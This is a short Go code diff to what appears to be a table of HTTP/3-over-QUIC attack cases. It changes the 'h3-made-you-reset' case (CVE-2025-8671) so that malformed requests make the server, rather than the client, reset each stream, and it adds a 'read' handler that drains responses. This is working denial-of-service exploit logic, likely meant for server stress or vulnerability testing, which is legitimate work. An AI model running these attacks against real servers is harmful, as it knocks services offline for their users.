@@ -21,7 +21,7 @@ var overQUIC = []attack{
 	{
 		name: "h3-made-you-reset", attackers: 2, front: withH3,
 		about: "requests that are malformed, so that the server resets them (CVE-2025-8671)",
-		run:   requests(frameH3(h3Headers, append(sectionH3("/"), 0x21, 'A', 0)), giveUp), // a name in capitals
+		run:   requests(frameH3(h3Headers, append(sectionH3("/"), 0x21, 'A', 0)), read), // a name in capitals
 	},
 	{
 		name: "h3-empty-fields", attackers: 8, front: withH3,
@@ -115,6 +115,12 @@ var overQUIC = []attack{
 func giveUp(str *quic.Stream) {
 	str.Close()
 	str.CancelRead(h3Cancelled)
+}
+
+// read ends a request and reads what comes, so that only the server resets.
+func read(str *quic.Stream) {
+	str.Close()
+	go io.Copy(io.Discard, str)
 }
 
 // requests sends one request after another, as many at a time as the server allows.
